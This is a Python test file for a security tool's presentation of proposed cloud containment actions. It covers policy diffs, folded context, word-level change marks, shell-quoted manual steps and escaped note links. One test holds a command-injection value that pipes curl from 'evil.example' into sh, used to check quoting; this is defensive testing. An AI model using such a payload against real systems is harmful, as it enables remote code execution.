"""How a plan is put before a reader: differences in words, long runs folded, steps by hand filled in."""

from __future__ import annotations

import json
import shlex

import pytest

from containment import presentation
from containment.presentation import folded, present, side_by_side
from soc.templatetags import quell
from tests.containment.subjects import SUBJECTS
from tests.containment.world import REGION, SHIPPING, World

POLICY = json.dumps({"Statement": [{"Sid": f"S{n:02d}"} for n in range(30)]}, indent=2).split("\n")


@pytest.mark.fast
def test_a_long_policy_is_folded_around_what_differs() -> None:
    changed = [line.replace("S15", "S99") for line in POLICY]

    lines = list(folded(side_by_side(POLICY, changed)))

    (difference,) = [line for line in lines if line.kind == "changed"]
    assert difference.left_parts[1] == "S15"
    assert difference.right_parts[1] == "S99"
    assert sum(1 for line in lines if line.kind == "same") == 2 * presentation.CONTEXT
    assert [line.kind for line in lines].count("fold") == 2
    unfolded = [one.left for line in lines for one in (line.folded or (line,))]
    assert unfolded == POLICY


@pytest.mark.fast
def test_what_is_wholly_the_same_or_short_is_not_folded() -> None:
    assert all(line.kind == "same" for line in folded(side_by_side(POLICY, POLICY)))
    short = ["{", '"a": 1', "}"]
    assert "fold" not in [line.kind for line in folded(side_by_side(short, ["{", '"a": 2', "}"]))]


@pytest.mark.fast
@pytest.mark.parametrize(
    ("was", "becomes", "marked"),
    [
        ("Active", "Inactive", ("", "")),  # one word for another: all of it
        ('"arn:aws:iam::1:role/a",', '"arn:aws:iam::1:role/b",', ("a", "b")),
        ("  sg-1", "  sg-2", ("1", "2")),
    ],
)
def test_a_difference_is_marked_in_whole_words(was: str, becomes: str, marked: tuple[str, str]) -> None:
    (line,) = side_by_side([was], [becomes])

    assert (line.left_parts[1], line.right_parts[1]) == marked
    assert "".join(line.left_parts) == was
    assert "".join(line.right_parts) == becomes


def test_what_was_not_there_is_only_added_and_said(world: World) -> None:
    target, params = SUBJECTS["iam.revoke-role-sessions"].aim(world)
    view = present(world.propose("iam.revoke-role-sessions", target, params), world.approves)

    (change,) = view.changes
    assert change.says == "not there before"
    assert {line.kind for line in change.lines} == {"added"}


def test_what_is_edited_says_that_the_rest_stays(world: World) -> None:
    target = {"type": "bucket", "account": SHIPPING, "region": REGION, "id": "nf-prod-labels"}
    view = present(world.propose("s3.restrict-bucket", target), world.approves)

    assert "all else in it stays as it is" in view.changes[0].says


def test_steps_by_hand_name_the_target_and_quote_it_for_a_shell(world: World) -> None:
    target, params = SUBJECTS["iam.deactivate-access-key"].aim(world)
    action = world.propose("iam.deactivate-access-key", target, params)
    hostile = "ci'; curl evil.example | sh #"
    action.params = {"user": hostile}  # parameters are checked when they are given; this is the second fence

    view = present(action, world.approves)

    words = [word for line in view.fallback for word in shlex.split(line)]
    assert hostile in words, "one word, whatever is in it"
    assert target["id"] in words
    assert not view.has_blanks


def test_steps_by_hand_say_when_something_is_left_to_fill_in(world: World) -> None:
    action = world.propose("ec2.isolate-instance", *SUBJECTS["ec2.isolate-instance"].aim(world))

    assert present(action, world.approves).has_blanks


@pytest.mark.fast
def test_a_note_links_the_action_that_it_names_and_nothing_else() -> None:
    ulid = "01M85MG280S8GEZWYQ3HQBFA8M"

    said = quell.linked_actions(f"<b>held</b> by action {ulid}; not 01M85MG280S8GEZWYQ3HQBFA8MX")

    assert said.count("<a ") == 1
    assert f'<a href="/actions/{ulid}">{ulid}</a>' in said
    assert "&lt;b&gt;held&lt;/b&gt;" in said


def test_what_stops_nothing_says_so_in_one_sentence(world: World) -> None:
    reading = world.propose("ec2.capture-instance", *SUBJECTS["ec2.capture-instance"].aim(world))
    stopping = world.propose("ec2.isolate-instance", *SUBJECTS["ec2.isolate-instance"].aim(world))

    (only,) = present(reading, world.approves).does_not_stop
    assert only.startswith("Nothing is stopped: it only reads")
    assert len(present(stopping, world.approves).does_not_stop) > 2
